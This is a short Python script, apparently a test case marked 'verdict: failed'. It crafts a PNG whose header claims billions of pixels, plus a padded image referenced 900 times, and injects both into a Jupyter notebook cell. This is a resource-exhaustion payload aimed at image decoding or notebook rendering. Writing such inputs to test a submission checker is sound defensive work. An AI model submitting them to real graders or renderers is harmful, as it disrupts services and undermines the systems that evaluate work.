"""Pastes a picture of billions of pixels, and shows a large file nine hundred times."""
# verdict: failed
import base64
import json
import struct
import zlib


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(side):
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    rows = chunk(b"IDAT", zlib.compress(bytes(2)))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + rows + chunk(b"IEND", b"")


def submit(notebook):
    files = {"x.png": png(65_535), "y.png": png(1) + bytes(200_000)}
    pasted = {n: {"image/png": base64.b64encode(f).decode()} for n, f in files.items()}
    for cell in notebook["cells"]:
        if cell["id"] == "written-scaling":
            cell["attachments"] = pasted
            cell["source"] = "![](attachment:x.png)" + "![](attachment:y.png)" * 900
    return json.dumps(notebook).encode()
